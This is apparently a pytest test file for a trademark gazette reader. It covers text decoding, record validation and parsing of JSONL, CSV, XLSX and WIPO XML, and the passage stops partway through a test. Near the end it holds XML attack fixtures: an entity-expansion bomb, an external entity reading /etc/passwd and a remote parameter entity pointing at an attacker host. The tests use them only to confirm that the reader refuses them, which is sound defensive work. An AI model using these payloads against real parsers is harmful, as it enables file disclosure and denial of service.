"""Gazette file readers: encodings, JSONL/CSV/TSV/XLSX, WIPO ST.66/ST.96 XML, unsafe XML, bad records."""

from __future__ import annotations

import csv
import io
import json
import shutil
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook

from markwatch.errors import FileFormatError, RecordError
from markwatch.model import GazetteRecord
from markwatch.sources.decoding import decode_bytes
from markwatch.sources.fields import ParsedItem, gazette_record_from_mapping, parse_classes, parse_date
from markwatch.sources.files import detect_format, read_gazette_file

SAMPLES = Path(__file__).parent / "data" / "samples"
ST66_PYTHON = SAMPLES / "uspto-sn76044902.xml"
ST96_JAVA = SAMPLES / "uspto-rn2178784-ST-962.2.1.xml"
ST96_JAVA_D3 = SAMPLES / "uspto-rn2178784-ST-961_D3.xml"

# the same brand written the ways a gazette may print it; readers must not touch them
MARK_FORMS = ["娃哈哈", "娃哈哈", "喬丹", "乔丹", "ＷＡＨＡＨＡ", "娃哈哈WAHAHA", "Wa哈哈 ２０２６", "康師傅 Master Kong"]


def _write_jsonl(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _rec(**fields) -> str:
    base = {"application_no": "70000001", "mark": "娃哈哈", "classes": [30]}
    base.update(fields)
    return json.dumps(base, ensure_ascii=False)


def _records(items: list[ParsedItem]) -> list[GazetteRecord]:
    return [i.record for i in items if i.record is not None]


def _errors(items: list[ParsedItem]) -> dict[str, str]:
    return {i.locator: i.error for i in items if i.error is not None}


# ------------------------------------------------------------------------------------ decoding


def test_decode_utf8():
    assert decode_bytes("娃哈哈,30".encode()) == ("娃哈哈,30", "utf-8")


def test_decode_utf8_bom_is_stripped():
    text, name = decode_bytes(b"\xef\xbb\xbf" + "申请号,商标".encode())
    assert name == "utf-8-sig"
    assert text == "申请号,商标"


@pytest.mark.parametrize("codec", ["gbk", "gb2312", "gb18030"])
def test_decode_gbk_family_as_gb18030(codec):
    original = "申请号,商标,申请人\n12345,娃哈哈,杭州娃哈哈集团有限公司"
    text, name = decode_bytes(original.encode(codec))
    assert name == "gb18030"
    assert text == original


def test_decode_gb18030_only_characters():
    original = "𠀀商标"  # outside GBK, inside GB18030
    assert decode_bytes(original.encode("gb18030")) == (original, "gb18030")


def test_decode_ascii_is_utf8():
    assert decode_bytes(b"a,b\n1,2") == ("a,b\n1,2", "utf-8")


@pytest.mark.parametrize("data", [b"\x00\x01\x02PK\x03\x04binary\x00", b"abc\x81", b"\xff\xff\xff\xff"])
def test_decode_rejects_binary_and_broken_bytes(data):
    with pytest.raises(FileFormatError, match="decode"):
        decode_bytes(data)


# ------------------------------------------------------------------------- record validation


def test_full_record_from_mapping():
    record = gazette_record_from_mapping({
        "application_no": " 7 0000 001 ",
        "mark": "  娃哈哈  ",
        "classes": ["30", 32],
        "goods": "咖啡；茶、糖;饼干,面包，蛋糕",
        "similar_groups": "3001,3002",
        "applicant": " 某某食品有限公司 ",
        "applicant_address": "浙江省杭州市",
        "filing_date": "2025-03-01",
        "publication_date": "2026年1月6日",
        "gazette_issue": "1925",
        "mark_type": "文字",
    })
    assert record == GazetteRecord(
        application_no="70000001", mark="娃哈哈", classes=(30, 32),
        goods=("咖啡", "茶", "糖", "饼干", "面包", "蛋糕"), similar_groups=("3001", "3002"),
        applicant="某某食品有限公司", applicant_address="浙江省杭州市",
        filing_date=date(2025, 3, 1), publication_date=date(2026, 1, 6),
        gazette_issue="1925", mark_type="word", office="CN",
    )


def test_chinese_header_aliases():
    record = gazette_record_from_mapping({
        "申请号": "70000002", "商标名称": "康师傅", "国际分类": "第30类", "商品/服务项目": "方便面；饼干",
        "类似群": "3007", "申请人": "顶益公司", "申请人地址": "天津", "申请日期": "2025/12/1",
        "初审公告日期": "20260106", "期号": "第1925期", "商标类型": "组合",
    })
    assert record.application_no == "70000002"
    assert record.mark == "康师傅"
    assert record.classes == (30,)
    assert record.goods == ("方便面", "饼干")
    assert record.similar_groups == ("3007",)
    assert record.filing_date == date(2025, 12, 1)
    assert record.publication_date == date(2026, 1, 6)
    assert record.gazette_issue == "1925"
    assert record.mark_type == "combined"


def test_full_width_header_alias():
    record = gazette_record_from_mapping({"申请号": "1", "商标": "A", "商品／服务项目": "咖啡", "国际分类": 30})
    assert record.goods == ("咖啡",)


@pytest.mark.parametrize(
    "value, expected",
    [
        ([30, 32], (30, 32)),
        (["30", "32"], (30, 32)),
        ("30,32", (30, 32)),
        ("30，32", (30, 32)),
        ("30；32", (30, 32)),
        ("30、32", (30, 32)),
        ("第30类", (30,)),
        ("第30类、第32类", (30, 32)),
        ("[30, 32]", (30, 32)),
        ("009", (9,)),
        (30, (30,)),
        (30.0, (30,)),
        ("32 30 30", (30, 32)),
        ("３０", (30,)),
    ],
)
def test_class_forms(value, expected):
    assert parse_classes(value) == expected


@pytest.mark.parametrize("value", [[47], "0", "46", [30, 99]])
def test_class_out_of_range(value):
    with pytest.raises(RecordError, match=r"is not a Nice class 1-45 \(尼斯分类号无效\)"):
        parse_classes(value)


def test_class_not_a_number():
    with pytest.raises(RecordError, match="尼斯分类号无效"):
        parse_classes("thirty")


@pytest.mark.parametrize(
    "value",
    ["2026-01-05", "2026-1-5", "2026/01/05", "2026/1/5", "2026.1.5", "2026年1月5日", "20260105",
     "2026-01-05T08:30:00", "2026-01-05 08:30", "2026-01-05-04:00", "2026-01-05Z",
     date(2026, 1, 5), datetime(2026, 1, 5, 10, 0), 20260105, 46027],
)
def test_date_forms(value):
    assert parse_date(value, "publication_date") == date(2026, 1, 5)


@pytest.mark.parametrize("value", ["2026-13-40", "2026-02-30", "yesterday", "05/01/2026", True, 12.5])
def test_bad_dates(value):
    with pytest.raises(RecordError, match=r"bad date .* in publication_date"):
        parse_date(value, "publication_date")


def test_bad_date_reason_names_value_and_field():
    with pytest.raises(RecordError) as info:
        gazette_record_from_mapping({"application_no": "1", "mark": "A", "classes": [30],
                                     "publication_date": "2026-13-40"})
    assert "bad date '2026-13-40' in publication_date" in str(info.value)


def test_missing_application_no():
    with pytest.raises(RecordError, match=r"missing application_no \(缺少申请号\)"):
        gazette_record_from_mapping({"mark": "娃哈哈", "classes": [30]})
    with pytest.raises(RecordError, match="缺少申请号"):
        gazette_record_from_mapping({"application_no": "   ", "mark": "娃哈哈", "classes": [30]})


def test_missing_classes():
    with pytest.raises(RecordError, match="缺少国际分类"):
        gazette_record_from_mapping({"application_no": "1", "mark": "娃哈哈", "classes": ""})


def test_all_problems_are_reported_together():
    with pytest.raises(RecordError) as info:
        gazette_record_from_mapping({"mark": "x", "classes": [47], "filing_date": "soon"})
    reason = str(info.value)
    assert "缺少申请号" in reason and "class 47" in reason and "bad date 'soon' in filing_date" in reason


@pytest.mark.parametrize("mark_type", ["figurative", "colour", "sound", "3d", "图形", "颜色", "声音", "立体"])
def test_non_verbal_marks_may_have_no_text(mark_type):
    record = gazette_record_from_mapping({"application_no": "1", "mark": "", "classes": [30],
                                          "mark_type": mark_type})
    assert record.mark == ""
    assert record.mark_type in ("figurative", "colour", "sound", "3d")


@pytest.mark.parametrize("mark_type", [None, "word", "combined", "文字", "组合"])
def test_verbal_marks_need_text(mark_type):
    with pytest.raises(RecordError, match="缺少商标文字"):
        gazette_record_from_mapping({"application_no": "1", "mark": "  ", "classes": [30],
                                     "mark_type": mark_type})


@pytest.mark.parametrize(
    "value, expected",
    [("文字", "word"), ("图形", "figurative"), ("组合", "combined"), ("立体", "3d"), ("颜色", "colour"),
     ("声音", "sound"), ("Word", "word"), ("COLOR", "colour"), ("3D", "3d"), ("文字商标", "word"), ("", "word")],
)
def test_mark_type_aliases(value, expected):
    record = gazette_record_from_mapping({"application_no": "1", "mark": "A", "classes": [1], "mark_type": value})
    assert record.mark_type == expected


def test_unknown_mark_type():
    with pytest.raises(RecordError, match="商标类型无效"):
        gazette_record_from_mapping({"application_no": "1", "mark": "A", "classes": [1], "mark_type": "smell"})


def test_similar_groups_validation():
    record = gazette_record_from_mapping({"application_no": "1", "mark": "A", "classes": [1],
                                          "similar_groups": ["0101", 102, "第3001组"]})
    assert record.similar_groups == ("0101", "0102", "3001")
    with pytest.raises(RecordError, match="类似群号无效"):
        gazette_record_from_mapping({"application_no": "1", "mark": "A", "classes": [1], "similar_groups": "30X1"})
    with pytest.raises(RecordError, match="类似群号无效"):
        gazette_record_from_mapping({"application_no": "1", "mark": "A", "classes": [1], "similar_groups": "9901"})


def test_office_default_and_validation():
    base = {"application_no": "1", "mark": "A", "classes": [1]}
    assert gazette_record_from_mapping(base).office == "CN"
    assert gazette_record_from_mapping({**base, "office": "us"}).office == "US"
    with pytest.raises(RecordError, match="局代码无效"):
        gazette_record_from_mapping({**base, "office": "China"})


def test_goods_as_list_keeps_items_whole():
    record = gazette_record_from_mapping({"application_no": "1", "mark": "A", "classes": [30],
                                          "goods": ["咖啡，茶", " 糖 ", ""]})
    assert record.goods == ("咖啡，茶", "糖")


@pytest.mark.parametrize("mark", MARK_FORMS)
def test_mark_forms_pass_through_unchanged(mark):
    assert gazette_record_from_mapping({"application_no": "1", "mark": mark, "classes": [30]}).mark == mark


def test_not_a_mapping():
    with pytest.raises(RecordError, match="not an object"):
        gazette_record_from_mapping(["1", "A"])  # type: ignore[arg-type]


# ----------------------------------------------------------------------------------- JSONL


def test_jsonl_records(tmp_path):
    lines = [
        _rec(application_no="70000001", goods=["咖啡", "茶"], publication_date="2026-01-06", gazette_issue="1925"),
        _rec(application_no="70000002", mark="娃哈哈WAHAHA", classes="30,32", goods="饮料；矿泉水"),
    ]
    path = _write_jsonl(tmp_path / "issue1925.jsonl", lines)
    assert detect_format(path) == "jsonl"
    items = list(read_gazette_file(path))
    assert [i.locator for i in items] == ["line 1", "line 2"]
    first, second = _records(items)
    assert first.goods == ("咖啡", "茶")
    assert first.publication_date == date(2026, 1, 6)
    assert first.issue_key == "1925"
    assert second.mark == "娃哈哈WAHAHA"
    assert second.classes == (30, 32)
    assert [i.raw for i in items] == lines  # the raw lines themselves


@pytest.mark.parametrize("suffix", [".jsonl", ".ndjson", ".json-lines", ".JSONL"])
def test_jsonl_extensions(tmp_path, suffix):
    path = _write_jsonl(tmp_path / f"g{suffix}", [_rec()])
    assert detect_format(path) == "jsonl"
    assert len(_records(list(read_gazette_file(path)))) == 1


def test_jsonl_bad_lines_become_error_items(tmp_path):
    path = _write_jsonl(tmp_path / "mixed.jsonl", [
        _rec(application_no="1"),                       # line 1 good
        '{"application_no": "2", "mark": "x",',          # line 2 broken JSON
        "",                                              # line 3 blank: skipped
        "   ",                                           # line 4 blank: skipped
        '["not", "an", "object"]',                       # line 5 array
        '"just a string"',                               # line 6 scalar
        _rec(application_no="7", classes=[47]),         # line 7 bad class
        _rec(application_no="", mark="A"),              # line 8 missing application_no
        _rec(application_no="9", publication_date="2026-13-40"),  # line 9 bad date
        _rec(application_no="10", mark="喬丹"),         # line 10 good
    ])
    items = list(read_gazette_file(path))
    assert [i.locator for i in items] == [
        "line 1", "line 2", "line 5", "line 6", "line 7", "line 8", "line 9", "line 10"]
    errors = _errors(items)
    assert "不是有效的 JSON" in errors["line 2"]
    assert "not an object" in errors["line 5"] and "not an object" in errors["line 6"]
    assert "class 47 is not a Nice class 1-45 (尼斯分类号无效)" in errors["line 7"]
    assert "missing application_no (缺少申请号)" in errors["line 8"]
    assert "bad date '2026-13-40' in publication_date" in errors["line 9"]
    assert [r.application_no for r in _records(items)] == ["1", "10"]
    assert _records(items)[1].mark == "喬丹"
    broken = next(i for i in items if i.locator == "line 2")
    assert broken.raw == '{"application_no": "2", "mark": "x",' and broken.record is None


def test_jsonl_crlf_and_bom(tmp_path):
    path = tmp_path / "win.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + ("\r\n".join([_rec(application_no="1"), _rec(application_no="2")])
                                        + "\r\n").encode("utf-8"))
    assert [r.application_no for r in _records(list(read_gazette_file(path)))] == ["1", "2"]


def test_jsonl_in_gbk(tmp_path):
    path = tmp_path / "gbk.jsonl"
    path.write_bytes((_rec(mark="康师傅", applicant="顶益食品") + "\n").encode("gbk"))
    (record,) = _records(list(read_gazette_file(path)))
    assert record.mark == "康师傅" and record.applicant == "顶益食品"


@pytest.mark.parametrize("mark", MARK_FORMS)
def test_jsonl_mark_forms_unchanged(tmp_path, mark):
    path = _write_jsonl(tmp_path / "forms.jsonl", [_rec(mark=mark)])
    assert _records(list(read_gazette_file(path)))[0].mark == mark


def test_parsed_item_needs_exactly_one_of_record_or_error():
    with pytest.raises(ValueError):
        ParsedItem("line 1", "{}", None, None)
    record = gazette_record_from_mapping({"application_no": "1", "mark": "A", "classes": [1]})
    with pytest.raises(ValueError):
        ParsedItem("line 1", "{}", record, "bad")


# ------------------------------------------------------------------------------ CSV and TSV

CN_HEADER = ["期号", "公告日期", "申请号", "申请日期", "商标", "国际分类", "商品/服务项目", "类似群",
             "申请人", "申请人地址", "代理机构", "商标类型"]
CN_ROWS = [
    ["1925", "2026-01-06", "70000001", "2025/3/1", "娃哈哈", "30", "咖啡；茶；糖", "3001；3002",
     "某某食品有限公司", "浙江省杭州市", "某代理", "文字"],
    ["1925", "2026年1月6日", "70000002", "20250302", "喬丹", '["25", "28"]', '["服装", "鞋"]', "2501,2507",
     "某体育用品公司", "福建省晋江市", "", "组合"],
    ["1925", "2026-01-06", "70000003", "2025-03-03", "", "30", "咖啡", "", "某图形公司", "", "", "图形"],
]


def _csv_text(header, rows, delimiter=",") -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue()


def _check_cn_rows(items: list[ParsedItem]) -> None:
    assert [i.locator for i in items] == ["row 2", "row 3", "row 4"]
    assert all(i.error is None for i in items), _errors(items)
    first, second, third = _records(items)
    assert first == GazetteRecord(
        application_no="70000001", mark="娃哈哈", classes=(30,), goods=("咖啡", "茶", "糖"),
        similar_groups=("3001", "3002"), applicant="某某食品有限公司", applicant_address="浙江省杭州市",
        filing_date=date(2025, 3, 1), publication_date=date(2026, 1, 6), gazette_issue="1925",
        mark_type="word", office="CN")
    assert second.mark == "喬丹" and second.classes == (25, 28) and second.goods == ("服装", "鞋")
    assert second.publication_date == date(2026, 1, 6) and second.filing_date == date(2025, 3, 2)
    assert second.mark_type == "combined"
    assert third.mark == "" and third.mark_type == "figurative"
    raw = json.loads(items[0].raw)
    assert raw["申请号"] == "70000001" and raw["代理机构"] == "某代理"


def test_csv_in_gbk(tmp_path):
    path = tmp_path / "公告1925.csv"
    path.write_bytes(_csv_text(CN_HEADER, CN_ROWS).encode("gbk"))
    assert detect_format(path) == "csv"
    _check_cn_rows(list(read_gazette_file(path)))


def test_csv_with_utf8_bom(tmp_path):
    path = tmp_path / "bom.csv"
    path.write_bytes(b"\xef\xbb\xbf" + _csv_text(CN_HEADER, CN_ROWS).encode("utf-8"))
    _check_cn_rows(list(read_gazette_file(path)))


def test_tsv(tmp_path):
    path = tmp_path / "issue.tsv"
    path.write_text(_csv_text(CN_HEADER, CN_ROWS, delimiter="\t"), encoding="utf-8")
    assert detect_format(path) == "tsv"
    _check_cn_rows(list(read_gazette_file(path)))


def test_csv_english_headers_and_bad_rows(tmp_path):
    header = ["application_no", "mark", "classes", "goods", "publication_date"]
    rows = [
        ["1", "ＷＡＨＡＨＡ", "30;32", "coffee;tea", "2026-01-06"],
        ["2", "Bad", "47", "", ""],
        [],                                   # blank row: skipped, still counted
        ["4", "Late", "30", "", "2026-13-40"],
        ["5", "Extra", "30", "", "", "surplus"],
        ["6", "Short", "30"],                 # trailing cells may be missing
    ]
    path = tmp_path / "en.csv"
    path.write_text(_csv_text(header, rows), encoding="utf-8")
    items = list(read_gazette_file(path))
    assert [i.locator for i in items] == ["row 2", "row 3", "row 5", "row 6", "row 7"]
    errors = _errors(items)
    assert "class 47" in errors["row 3"]
    assert "bad date '2026-13-40' in publication_date" in errors["row 5"]
    assert "header has 5" in errors["row 6"]
    records = _records(items)
    assert [r.application_no for r in records] == ["1", "6"]
    assert records[0].mark == "ＷＡＨＡＨＡ"
    assert records[0].goods == ("coffee", "tea")


def test_csv_without_application_no_column_is_refused(tmp_path):
    path = tmp_path / "wrong.csv"
    path.write_text("申请号\t商标\t国际分类\n1\tA\t30\n", encoding="utf-8")  # tabs in a .csv
    with pytest.raises(FileFormatError, match="申请号"):
        list(read_gazette_file(path))


def test_empty_csv_is_refused(tmp_path):
    path = tmp_path / "empty.csv"
    path.write_text("", encoding="utf-8")
    with pytest.raises(FileFormatError, match="empty"):
        list(read_gazette_file(path))


def test_undecodable_csv_is_refused(tmp_path):
    path = tmp_path / "junk.csv"
    path.write_bytes(b"\x00\x01\x02\x03")
    with pytest.raises(FileFormatError):
        list(read_gazette_file(path))


# ------------------------------------------------------------------------------------- XLSX


def _xlsx(path: Path, header: list, rows: list[list]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    extra = workbook.create_sheet("ignored")
    extra.append(["申请号", "商标", "国际分类"])
    extra.append(["999", "Other sheet", 30])
    workbook.save(path)
    return path


def test_xlsx_with_date_cells(tmp_path):
    path = _xlsx(tmp_path / "issue.xlsx",
                 ["申请号", "商标名称", "国际分类", "商品/服务项目", "申请日期", "初审公告日期", "期号", "商标类型"],
                 [
                     [70000001, "娃哈哈", 30, "咖啡；茶", datetime(2025, 3, 1), date(2026, 1, 6), 1925, "文字"],
                     [70000002, "康師傅", "30,32", "方便面", "2025-03-02", 46028, "1925", None],
                     [None, None, None, None, None, None, None, None],
                     [70000004, "Bad", 99, "", None, None, None, None],
                 ])
    assert detect_format(path) == "xlsx"
    items = list(read_gazette_file(path))
    assert [i.locator for i in items] == ["row 2", "row 3", "row 5"]
    first, second = _records(items)
    assert first.application_no == "70000001"
    assert first.filing_date == date(2025, 3, 1)
    assert first.publication_date == date(2026, 1, 6)
    assert first.gazette_issue == "1925"
    assert first.classes == (30,)
    assert second.mark == "康師傅" and second.classes == (30, 32)
    assert second.publication_date == date(2026, 1, 6)  # Excel serial day 46028
    assert "class 99" in _errors(items)["row 5"]
    assert json.loads(items[0].raw)["申请日期"].startswith("2025-03-01")


def test_not_really_xlsx_is_refused(tmp_path):
    path = tmp_path / "fake.xlsx"
    path.write_text("申请号,商标\n1,A\n", encoding="utf-8")
    with pytest.raises(FileFormatError, match="xlsx"):
        list(read_gazette_file(path))


# ------------------------------------------------------------------------------ WIPO XML samples


def test_sample_files_are_present():
    for sample in (ST66_PYTHON, ST96_JAVA, ST96_JAVA_D3, SAMPLES / "README.md"):
        assert sample.is_file(), sample
    assert "public domain" in (SAMPLES / "README.md").read_text(encoding="utf-8")


def test_st66_python():
    assert detect_format(ST66_PYTHON) == "st66"
    (item,) = list(read_gazette_file(ST66_PYTHON))
    assert item.locator == "record 1" and item.error is None
    record = item.record
    assert record.mark == "PYTHON"
    assert record.application_no == "76044902"
    assert record.classes == (9, 42)
    assert record.office == "US"
    assert record.mark_type == "word"
    assert record.filing_date == date(2000, 5, 9)
    assert record.publication_date == date(2003, 12, 30)
    assert record.applicant == "PYTHON SOFTWARE FOUNDATION"
    assert "Wolfeboro Falls" in (record.applicant_address or "")
    assert any("object-oriented computer programming language" in g for g in record.goods)
    assert "<" in item.raw and "PYTHON" in item.raw


@pytest.mark.parametrize("sample", [ST96_JAVA, ST96_JAVA_D3])
def test_st96_java(sample):
    assert detect_format(sample) == "st96"
    (item,) = list(read_gazette_file(sample))
    assert item.error is None
    record = item.record
    assert record.mark == "JAVA"
    assert record.application_no == "74631225"
    assert record.classes == (9,)  # the Nice class, not the US national classes 021/023/...
    assert record.office == "US"
    assert record.mark_type == "word"
    assert record.filing_date == date(1995, 2, 7)
    assert record.publication_date == date(1996, 10, 8)
    assert record.applicant == "Oracle America, Inc."
    assert len(record.goods) == 2 and record.goods[0].startswith("computer programs")


def test_samples_copied_from_shared_data_are_identical():
    shared = Path("/work/shared/data/samples")
    if not shared.is_dir():
        pytest.skip("shared sample folder not mounted")
    for sample in (ST66_PYTHON, ST96_JAVA, ST96_JAVA_D3):
        assert sample.read_bytes() == (shared / sample.name).read_bytes()


ST66_CN = """<?xml version="1.0" encoding="{encoding}"?>
<Transaction xmlns="http://www.wipo.int/standards/XMLSchema/trademarks">
 <TradeMarkTransactionBody><TransactionContentDetails><TransactionData><TradeMarkDetails>
  <TradeMark>
   <RegistrationOfficeCode>CN</RegistrationOfficeCode>
   <ApplicationNumber>70000001</ApplicationNumber>
   <ApplicationDate>2025-03-01</ApplicationDate>
   <MarkFeature>Word</MarkFeature>
   <WordMarkSpecification><MarkVerbalElementText>娃哈哈</MarkVerbalElementText></WordMarkSpecification>
   <GoodsServicesDetails><GoodsServices><ClassDescriptionDetails>
     <ClassDescription><ClassNumber>30</ClassNumber><GoodsServicesDescription>咖啡；茶、糖</GoodsServicesDescription></ClassDescription>
     <ClassDescription><ClassNumber>32</ClassNumber><GoodsServicesDescription>啤酒</GoodsServicesDescription></ClassDescription>
   </ClassDescriptionDetails></GoodsServices></GoodsServicesDetails>
   <PublicationDetails><Publication><PublicationIdentifier>1925</PublicationIdentifier><PublicationDate>2026-01-06</PublicationDate></Publication></PublicationDetails>
   <ApplicantDetails><Applicant><ApplicantAddressBook><FormattedNameAddress>
     <Name><FreeFormatName><FreeFormatNameDetails><FreeFormatNameLine>某某食品有限公司</FreeFormatNameLine></FreeFormatNameDetails></FreeFormatName></Name>
     <Address><FreeFormatAddress><FreeFormatAddressLine>浙江省杭州市</FreeFormatAddressLine></FreeFormatAddress></Address>
   </FormattedNameAddress></ApplicantAddressBook></Applicant></ApplicantDetails>
  </TradeMark>
  <TradeMark>
   <ApplicationNumber>70000002</ApplicationNumber>
   <MarkFeature>Figurative</MarkFeature>
   <GoodsServicesDetails><GoodsServices><ClassDescriptionDetails>
     <ClassDescription><ClassNumber>30</ClassNumber></ClassDescription>
   </ClassDescriptionDetails></GoodsServices></GoodsServicesDetails>
  </TradeMark>
  <TradeMark>
   <ApplicationNumber>70000003</ApplicationNumber>
   <MarkFeature>Combined</MarkFeature>
   <WordMarkSpecification><MarkVerbalElementText>喬丹 ＱＩＡＯＤＡＮ</MarkVerbalElementText></WordMarkSpecification>
   <GoodsServicesDetails><GoodsServices><ClassDescriptionDetails>
     <ClassDescription><ClassNumber>47</ClassNumber></ClassDescription>
   </ClassDescriptionDetails></GoodsServices></GoodsServicesDetails>
  </TradeMark>
 </TradeMarkDetails></TransactionData></TransactionContentDetails></TradeMarkTransactionBody>
</Transaction>
"""


def test_st66_multi_record_chinese(tmp_path):
    path = tmp_path / "cn.xml"
    path.write_text(ST66_CN.format(encoding="UTF-8"), encoding="utf-8")
    items = list(read_gazette_file(path))
    assert [i.locator for i in items] == ["record 1", "record 2", "record 3"]
    first, second = _records(items)
    assert first.mark == "娃哈哈" and first.classes == (30, 32) and first.office == "CN"
    assert first.goods == ("咖啡", "茶", "糖", "啤酒")
    assert first.applicant == "某某食品有限公司" and first.applicant_address == "浙江省杭州市"
    assert first.gazette_issue == "1925" and first.publication_date == date(2026, 1, 6)
    assert second.mark == "" and second.mark_type == "figurative"
    assert "class 47" in _errors(items)["record 3"]
    assert "喬丹 ＱＩＡＯＤＡＮ" in items[2].raw


def test_xml_declared_gbk(tmp_path):
    path = tmp_path / "gbk.xml"
    path.write_bytes(ST66_CN.format(encoding="GBK").encode("gbk"))
    assert detect_format(path) == "st66"
    assert _records(list(read_gazette_file(path)))[0].mark == "娃哈哈"


ST96_CN = """<?xml version="1.0" encoding="UTF-8"?>
<tmk:TrademarkTransaction xmlns:com="http://www.wipo.int/standards/XMLSchema/ST96/Common"
    xmlns:tmk="http://www.wipo.int/standards/XMLSchema/ST96/Trademark">
 <tmk:TrademarkTransactionBody><tmk:TransactionContentBag><tmk:TransactionData><tmk:TrademarkBag>
  <tmk:Trademark>
   <com:ApplicationNumber><com:IPOfficeCode>CN</com:IPOfficeCode><com:ApplicationNumberText>70000011</com:ApplicationNumberText></com:ApplicationNumber>
   <tmk:ApplicationDate>2025-03-01</tmk:ApplicationDate>
   <tmk:MarkRepresentation><tmk:MarkFeatureCategory>Word</tmk:MarkFeatureCategory>
    <tmk:MarkReproduction><tmk:WordMarkSpecification><tmk:MarkVerbalElementText>康師傅</tmk:MarkVerbalElementText></tmk:WordMarkSpecification></tmk:MarkReproduction>
   </tmk:MarkRepresentation>
   <tmk:GoodsServicesBag><tmk:GoodsServices><tmk:ClassDescriptionBag><tmk:ClassDescription>
     <tmk:ClassNumber>30</tmk:ClassNumber><tmk:GoodsServicesDescriptionText>方便面；饼干</tmk:GoodsServicesDescriptionText>
   </tmk:ClassDescription></tmk:ClassDescriptionBag></tmk:GoodsServices></tmk:GoodsServicesBag>
   <tmk:PublicationBag><tmk:Publication><com:PublicationDate>2026-01-06</com:PublicationDate></tmk:Publication></tmk:PublicationBag>
   <tmk:ApplicantBag><tmk:Applicant><com:Contact><com:Name><com:EntityName>顶益食品</com:EntityName></com:Name></com:Contact></tmk:Applicant></tmk:ApplicantBag>
  </tmk:Trademark>
  <tmk:Trademark>
   <com:ApplicationNumber><com:ApplicationNumberText>70000012</com:ApplicationNumberText></com:ApplicationNumber>
   <tmk:MarkRepresentation><tmk:MarkFeatureCategory>Sound</tmk:MarkFeatureCategory></tmk:MarkRepresentation>
   <tmk:GoodsServicesBag><tmk:GoodsServices><tmk:ClassDescriptionBag><tmk:ClassDescription>
     <tmk:ClassNumber>9</tmk:ClassNumber>
   </tmk:ClassDescription></tmk:ClassDescriptionBag></tmk:GoodsServices></tmk:GoodsServicesBag>
   <tmk:PublicationBag><tmk:Publication><com:PublicationDate>2026-02-30</com:PublicationDate></tmk:Publication></tmk:PublicationBag>
  </tmk:Trademark>
 </tmk:TrademarkBag></tmk:TransactionData></tmk:TransactionContentBag></tmk:TrademarkTransactionBody>
</tmk:TrademarkTransaction>
"""


def test_st96_multi_record_chinese(tmp_path):
    path = tmp_path / "cn96.xml"
    path.write_text(ST96_CN, encoding="utf-8")
    assert detect_format(path) == "st96"
    items = list(read_gazette_file(path))
    assert [i.locator for i in items] == ["record 1", "record 2"]
    (record,) = _records(items)
    assert record.mark == "康師傅" and record.office == "CN" and record.applicant == "顶益食品"
    assert record.goods == ("方便面", "饼干") and record.publication_date == date(2026, 1, 6)
    assert "bad date '2026-02-30' in publication_date" in _errors(items)["record 2"]


def test_truncated_xml_keeps_earlier_records(tmp_path):
    text = ST96_CN
    cut = text.index("<tmk:Trademark>", text.index("</tmk:Trademark>"))
    path = tmp_path / "cut.xml"
    path.write_text(text[:cut] + "<tmk:Trademark><broken", encoding="utf-8")
    items = list(read_gazette_file(path))
    assert _records(items)[0].mark == "康師傅"
    assert items[-1].error is not None and "record 1" in items[-1].error


BOMB = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Transaction xmlns="http://www.wipo.int/standards/XMLSchema/trademarks"><TradeMarkTransactionBody>
<TransactionContentDetails><TransactionData><TradeMarkDetails><TradeMark>
<ApplicationNumber>1</ApplicationNumber>
<WordMarkSpecification><MarkVerbalElementText>&lol3;</MarkVerbalElementText></WordMarkSpecification>
</TradeMark></TradeMarkDetails></TransactionData></TransactionContentDetails></TradeMarkTransactionBody></Transaction>
"""

EXTERNAL = """<?xml version="1.0"?>
<!DOCTYPE Transaction [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
<Transaction xmlns="http://www.wipo.int/standards/XMLSchema/trademarks"><TradeMarkTransactionBody>
<TransactionContentDetails><TransactionData><TradeMarkDetails><TradeMark>
<ApplicationNumber>1</ApplicationNumber>
<WordMarkSpecification><MarkVerbalElementText>&secret;</MarkVerbalElementText></WordMarkSpecification>
</TradeMark></TradeMarkDetails></TransactionData></TransactionContentDetails></TradeMarkTransactionBody></Transaction>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Transaction [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<Transaction xmlns="http://www.wipo.int/standards/XMLSchema/trademarks"/>
"""


@pytest.mark.parametrize("text", [BOMB, EXTERNAL, PARAMETER_ENTITY], ids=["bomb", "external", "parameter"])
def test_xml_entities_are_refused(tmp_path, text):
    path = tmp_path / "evil.xml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(FileFormatError, match="entit") as info:
        list(read_gazette_file(path))
    assert "拒绝" in str(info.value)
    with pytest.raises(FileFormatError):
        detect_format(path)


def test_external_entity_content_never_leaks(tmp_path):
    path = tmp_path / "xxe.xml"
    path.write_text(EXTERNAL, encoding="utf-8")
    with pytest.raises(FileFormatError) as info:
        list(read_gazette_file(path))
    assert "root:" not in str(info.value)


def test_plain_doctype_without_entities_is_fine(tmp_path):
    path = tmp_path / "doctype.xml"
    path.write_text(ST66_CN.format(encoding="UTF-8").replace(
        "?>", '?>\n<!DOCTYPE Transaction SYSTEM "http://example.invalid/st66.dtd">', 1), encoding="utf-8")
    assert _records(list(read_gazette_file(path)))[0].mark == "娃哈哈"


@pytest.mark.parametrize("text", ["<Transaction><TradeMark>", "not xml at all", "", "<a></b>"])
def test_malformed_xml_is_refused(tmp_path, text):
    path = tmp_path / "bad.xml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(FileFormatError, match="XML"):
        list(read_gazette_file(path))


def test_unrelated_xml_is_refused(tmp_path):
